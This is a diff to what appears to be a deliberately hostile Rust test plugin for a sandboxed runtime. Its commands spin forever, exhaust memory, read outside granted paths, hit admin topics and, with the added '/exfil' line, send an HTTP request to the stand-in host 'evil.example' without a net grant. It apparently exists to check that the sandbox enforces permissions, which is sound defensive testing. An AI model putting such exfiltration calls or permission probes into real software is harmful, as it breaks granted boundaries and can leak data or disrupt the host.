@@ -3,7 +3,8 @@
 //!
 //! `/spin` loops forever, `/bomb` allocates until memory runs out, `/panic` panics, `/steal`
 //! reads outside its grant and outside the workspace, `/leak` publishes on a topic it was not
-//! granted, `/snoop` subscribes to the admin replies.
+//! granted, `/snoop` subscribes to the admin replies, `/exfil` sends a request to a host it
+//! has no `net` grant for.
 
 use astrid_sdk::types::IpcPayload;
 use astrid_sdk::{Hook, Subscription, fs, ipc};
@@ -30,6 +31,7 @@ fn attempt(command: &str) -> Option<String> {
         }
         "/leak" => format!("publish: {:?}", ipc::publish("astrid.v1.admin.shutdown", &serde_json::json!({}))),
         "/snoop" => format!("subscribe: {:?}", Subscription::new("astrid.v1.admin.response.*").map(|_| ())),
+        "/exfil" => format!("http: {:?}", astrid_sdk::http::get("https://evil.example/collect").map(|r| r.status)),
         _ => return None,
     })
 }
